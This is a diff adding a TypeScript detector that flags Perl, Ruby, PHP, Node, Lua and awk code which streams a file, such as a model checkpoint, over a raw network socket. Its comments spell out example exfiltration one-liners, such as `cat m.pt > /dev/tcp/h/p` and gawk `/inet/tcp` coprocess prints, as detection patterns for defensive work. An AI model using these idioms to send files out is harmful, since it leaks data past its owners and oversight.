@@ -1,0 +1,248 @@
+/**
+ * Interpreter code that sends data over a raw network socket it opened, for MLS-EXFIL-014 through
+ * `attrs.exec.socketIo` (`send <language>`, as exec-socket-io.ts gives `send cat` for `cat m.pt >
+ * /dev/tcp/h/p`): a checkpoint streamed to a listener with no upload tool and no HTTP, in the
+ * interpreters a base image carries (perl is in every Debian image). Python's sockets have their
+ * own, finer reading (exec-interpreter-transfer-socket.ts: which file goes where); this one reads
+ * Perl, Ruby, PHP, Node, Lua and awk (MITRE T1048, T1095):
+ * - the code opens a network socket and binds it to a name (exec-interpreter-sockets.ts), or
+ *   writes to one as it makes it (`TCPSocket.new(h, p).write(…)`, `IO::Socket::INET->new(…)->print(…)`,
+ *   `fwrite(fsockopen(h, p), …)`);
+ * - it writes to that socket: a method on it (`$s->print`, `$s->send`, `s.write`, `s.puts`, `s <<`,
+ *   `s.end(data)`, `s:send(…)`), a function given it first (Perl `syswrite($s, …)`, `send(S, …)`;
+ *   PHP `fwrite($s, …)`, `fputs`, `socket_write`, `socket_send`), Perl's `print $s …` / `print {$s} …`
+ *   / `printf S …`, or a copy into it (Ruby `IO.copy_stream(src, s)`, PHP
+ *   `stream_copy_to_stream($f, $s)`, Node `src.pipe(s)`);
+ * - and it reads a file or its standard input, which is what it sends (Perl `open` of a file,
+ *   `<STDIN>`, a slurp; Ruby `File.read` / `File.open` / `IO.binread`, `STDIN.read`; PHP
+ *   `file_get_contents`, `fopen`; Node `readFileSync`, `createReadStream`, `process.stdin`; Lua
+ *   `io.open`, `io.lines`, `io.read`). Code that writes only what it spells (`s.write("PING\r\n")`,
+ *   a health check) reads no file and sends nothing of the pod's.
+ * gawk's coprocess (`print |& "/inet/tcp/0/h/p"`, or a name holding that file) sends what awk read
+ * when it prints a record or its fields (its input files or its standard input) or a line `getline
+ * l < file` read; printing text it spells (`print "GET / HTTP/1.0\r\n" |& s`) sends none of the pod's.
+ * Bounded: one pass over the tokens for the writes, one for the reads; never throws.
+ */
+import { CodeSockets, isNamed, MAKERS } from './exec-interpreter-sockets.js';
+import { isOp, TK_NAME, TK_OP, TK_STR, TK_VAR, type Lang, type Token } from './exec-interpreter-token.js';
+
+/** Methods that write what they are given to the socket they are called on, by language. */
+const WRITE_METHODS: Readonly<Record<Lang, ReadonlySet<string>>> = {
+  python: new Set(),
+  perl: new Set(['print', 'printf', 'say', 'send', 'syswrite', 'write']),
+  ruby: new Set(['write', 'print', 'puts', 'send', 'syswrite', 'write_nonblock', 'sendmsg', 'printf']),
+  php: new Set(),
+  js: new Set(['write', 'end', 'send']),
+  lua: new Set(['send']),
+  awk: new Set(),
+};
+/** Functions whose first argument is the socket they write to (Perl, PHP). */
+const WRITE_FUNCTIONS: Readonly<Record<Lang, ReadonlySet<string>>> = {
+  python: new Set(),
+  perl: new Set(['syswrite', 'send']),
+  ruby: new Set(),
+  php: new Set(['fwrite', 'fputs', 'socket_write', 'socket_send', 'socket_sendto', 'stream_socket_sendto']),
+  js: new Set(),
+  lua: new Set(),
+  awk: new Set(),
+};
+/** Copies whose second argument is the socket: Ruby `IO.copy_stream(src, s)`, PHP `stream_copy_to_stream($f, $s)`. */
+const COPIES_INTO = new Set(['copy_stream', 'stream_copy_to_stream']);
+/** Calls that read a file or standard input, by language (names as the tokenizer gives them: PHP's lower-cased). */
+const SOURCES: Readonly<Record<Lang, ReadonlySet<string>>> = {
+  python: new Set(),
+  perl: new Set(['sysopen', 'read_file', 'read_binary', 'slurp', 'slurp_raw', 'STDIN']),
+  ruby: new Set(['read', 'binread', 'readlines', 'foreach', 'copy_stream', 'STDIN', '$stdin', 'ARGF']),
+  php: new Set(['file_get_contents', 'fopen', 'file', 'readfile', 'gzopen']),
+  js: new Set(['readFileSync', 'readFile', 'createReadStream', 'openSync', 'openAsBlob', 'stdin']),
+  lua: new Set(['open', 'lines', 'read']),
+  awk: new Set(),
+};
+/** The Ruby receivers whose `read` family reads a file (`File.read(p)`, `IO.binread(p)`), not a socket's. */
+const RUBY_FILE_CLASSES = new Set(['File', 'IO', 'Pathname']);
+/** gawk's network special files. */
+const AWK_INET = /^\/inet[46]?\/(tcp|udp)\//;
+
+/** Whether `t`, after `print $s`, starts the list printed to the handle `$s` (`print $s;`, `print $s, $x` and `print $s->x` print `$s` itself). */
+function startsList(t: Token | undefined): boolean {
+  return t !== undefined && !(t.k === TK_OP && (t.v === ';' || t.v === ',' || t.v === '->' || t.v === ')' || t.v === '.' || t.v === '=' || t.v === '}'));
+}
+
+/** `send <language>` when code `ts` in `lang` sends a file or its standard input over a network socket it opened; else null. */
+export function socketSend(ts: readonly Token[], lang: Lang): string | null {
+  if (lang === 'python') return null;
+  try {
+    return new SocketSend(ts, lang).judge();
+  } catch {
+    return null;
+  }
+}
+
+class SocketSend extends CodeSockets {
+  judge(): string | null {
+    if (!this.opens || !this.writesSocket()) return null;
+    if (this.lang !== 'awk' && !this.readsSource()) return null;
+    return `send ${this.lang === 'js' ? 'node' : this.lang}`;
+  }
+
+  /** Whether the token at `i` is a socket: a name bound to one, or the `)` ending a call that makes one (`TCPSocket.new(h, p)`). */
+  private socketAt(i: number): boolean {
+    const t = this.ts[i];
+    if (t === undefined) return false;
+    if (this.isSocket(t)) return true;
+    if (this.lang === 'awk') return t.k === TK_STR && AWK_INET.test(t.v);
+    if (!isOp(t, ')')) return false;
+    const open = this.openingParen(i);
+    if (open < 1) return false;
+    return this.makesSocket(open - 1);
+  }
+
+  /** Whether the callee ending at token `c` (the name before a call's `(`) makes a socket: `fsockopen`, `TCPSocket.new`, `IO::Socket::INET->new`, `net.connect`. */
+  private makesSocket(c: number): boolean {
+    const ts = this.ts;
+    const makers = MAKERS[this.lang];
+    const t = ts[c];
+    if (t?.k !== TK_NAME) return false;
+    if (makers.has(t.v)) return this.lang !== 'js' || isOp(ts[c - 1], '.');
+    // `<Maker>.new(…)`, `<Maker>->new(…)`.
+    return t.v === 'new' && (isOp(ts[c - 1], '.') || isOp(ts[c - 1], '->')) && ts[c - 2]?.k === TK_NAME && makers.has(ts[c - 2]!.v);
+  }
+
+  /** The index of the `(` that the `)` at `close` ends, or -1. */
+  private openingParen(close: number): number {
+    let depth = 0;
+    for (let k = close; k >= 0; k--) {
+      const t = this.ts[k]!;
+      if (isOp(t, ')')) depth++;
+      else if (isOp(t, '(') && --depth === 0) return k;
+    }
+    return -1;
+  }
+
+  /** Whether the code writes to a socket (see the header). */
+  private writesSocket(): boolean {
+    const ts = this.ts;
+    const methods = WRITE_METHODS[this.lang];
+    const functions = WRITE_FUNCTIONS[this.lang];
+    for (let i = 0; i < ts.length; i++) {
+      const t = ts[i]!;
+      if (this.lang === 'awk') {
+        // `print |& s`, `print $0 |& "/inet/tcp/0/h/p"`, `print l |& s` of a line `getline l < file` read.
+        if (isOp(t, '|&') && this.socketAt(i + 1) && this.awkPrintsInput(i)) return true;
+        continue;
+      }
+      // A method on the socket: `$s->print(`, `s.write(`, `t:send(`; Ruby `s << data`.
+      if ((isOp(t, '.') || isOp(t, '->') || isOp(t, ':')) && isNamed(ts[i + 1]) && methods.has(ts[i + 1]!.v) && this.socketAt(i - 1)) return true;
+      // The tokenizer gives `<<` as two `<` (one could start a heredoc).
+      if (this.lang === 'ruby' && isOp(t, '<') && isOp(ts[i + 1], '<') && this.socketAt(i - 1)) return true;
+      if (t.k !== TK_NAME) continue;
+      // A function given the socket first: `fwrite($s, …)`, `syswrite($s, …)`, `send(S, …)`.
+      if (functions.has(t.v) && isOp(ts[i + 1], '(') && this.firstArgIsSocket(i + 2)) return true;
+      // Perl `print $s LIST`, `print {$s} LIST`, `printf S LIST`: a handle before the list, no comma after it.
+      if (this.lang === 'perl' && (t.v === 'print' || t.v === 'printf' || t.v === 'say')) {
+        let k = isOp(ts[i + 1], '(') ? i + 2 : i + 1;
+        const braced = isOp(ts[k], '{');
+        if (braced) k++;
+        if (this.isSocket(ts[k]) && (braced ? isOp(ts[k + 1], '}') : startsList(ts[k + 1]))) return true;
+      }
+      // A copy into the socket: `IO.copy_stream(src, s)`, `stream_copy_to_stream($f, $s)`, Node `src.pipe(s)`.
+      if ((COPIES_INTO.has(t.v) || (this.lang === 'js' && t.v === 'pipe')) && isOp(ts[i + 1], '(') && this.argIsSocket(i + 2, t.v === 'pipe' ? 0 : 1)) return true;
+    }
+    return false;
+  }
+
+  /**
+   * Whether the awk statement whose `|&` is at `i` prints what awk read: a bare `print` (the record),
+   * a field (`$0`, `$2`), or a name a `getline NAME < file` read; not text it spells (`print "GET /
+   * HTTP/1.0" |& s`, a request).
+   */
+  private awkPrintsInput(i: number): boolean {
+    const ts = this.ts;
+    let k = i - 1;
+    for (; k >= 0; k--) {
+      const t = ts[k]!;
+      if (isOp(t, ';') || isOp(t, '{') || isOp(t, '}')) return false;
+      if (t.k === TK_NAME && (t.v === 'print' || t.v === 'printf')) break;
+    }
+    if (k < 0) return false;
+    if (k === i - 1) return true;
+    for (let j = k + 1; j < i; j++) {
+      const t = ts[j]!;
+      if (t.k === TK_VAR && t.v.startsWith('$')) return true;
+      if (t.k === TK_NAME && this.awkReadsInto(t.v)) return true;
+    }
+    return false;
+  }
+
+  /** Whether the awk code reads a line from a file into `name` (`getline name < file`). */
+  private awkReadsInto(name: string): boolean {
+    const ts = this.ts;
+    for (let j = 0; j + 2 < ts.length; j++) if (ts[j]!.k === TK_NAME && ts[j]!.v === 'getline' && ts[j + 1]!.v === name && isOp(ts[j + 2], '<')) return true;
+    return false;
+  }
+
+  private firstArgIsSocket(from: number): boolean {
+    return this.argIsSocket(from, 0);
+  }
+
+  /** Whether argument `n` (0-based) of the call whose arguments start at `from` is a socket: a name bound to one, or a call that makes one. */
+  private argIsSocket(from: number, n: number): boolean {
+    const ts = this.ts;
+    let arg = 0;
+    let start = from;
+    for (let k = from, depth = 0; k < ts.length; k++) {
+      const t = ts[k]!;
+      if (isOp(t, '(') || isOp(t, '[') || isOp(t, '{')) depth++;
+      else if (isOp(t, ')') || isOp(t, ']') || isOp(t, '}')) {
+        if (depth === 0) return arg === n && this.argSocket(start, k);
+        depth--;
+      } else if (depth === 0 && isOp(t, ',')) {
+        if (arg === n) return this.argSocket(start, k);
+        arg++;
+        start = k + 1;
+      }
+    }
+    return false;
+  }
+
+  /** Whether the argument spanning tokens [from, to) is a socket (`$s`, `my $s` excepted, or `fsockopen(…)`). */
+  private argSocket(from: number, to: number): boolean {
+    if (to - from === 1) return this.isSocket(this.ts[from]);
+    return to - from > 1 && isOp(this.ts[to - 1], ')') && this.socketAt(to - 1) && this.openingParen(to - 1) === from + 1;
+  }
+
+  /** Whether the code reads a file or its standard input (see the header). */
+  private readsSource(): boolean {
+    const ts = this.ts;
+    const sources = SOURCES[this.lang];
+    for (let i = 0; i < ts.length; i++) {
+      const t = ts[i]!;
+      if (this.lang === 'perl') {
+        // `open(F, "<", p)`, `open my $f, p`: a file, unless its mode duplicates a handle (`>&S`).
+        if (t.k === TK_NAME && t.v === 'open' && !this.perlDupOpen(i)) return true;
+        // `<STDIN>`, `<>`, `<F>`: a line read from a handle.
+        if (isOp(t, '<') && (isOp(ts[i + 1], '>') || (isNamed(ts[i + 1]) && isOp(ts[i + 2], '>') && !this.isSocket(ts[i + 1])))) return true;
+      }
+      if (t.k !== TK_NAME || !sources.has(t.v)) continue;
+      if (this.lang === 'ruby' && (t.v === 'read' || t.v === 'binread' || t.v === 'readlines' || t.v === 'foreach')) {
+        // `File.read(p)`, `IO.binread(p)`, `STDIN.read` (a name in SOURCES itself); not `s.read` (the socket's).
+        const recv = ts[i - 2];
+        if (isOp(ts[i - 1], '.') && recv?.k === TK_NAME && (RUBY_FILE_CLASSES.has(recv.v) || sources.has(recv.v))) return true;
+        continue;
+      }
+      if (this.lang === 'lua' && !(isOp(ts[i - 1], '.') && ts[i - 2]?.v === 'io')) continue;
+      return true;
+    }
+    return false;
+  }
+
+  /** Whether Perl's `open` at `i` duplicates a handle (`open(STDOUT, ">&S")`, `open STDIN, "<&", $c`) rather than open a file. */
+  private perlDupOpen(i: number): boolean {
+    for (let k = i + 1; k < this.ts.length && k < i + 8; k++) {
+      const t = this.ts[k]!;
+      if (isOp(t, ';')) break;
+      if (t.k === TK_STR && /^\s*\+?[<>]{1,2}&/.test(t.v)) return true;
+    }
+    return false;
+  }
+}
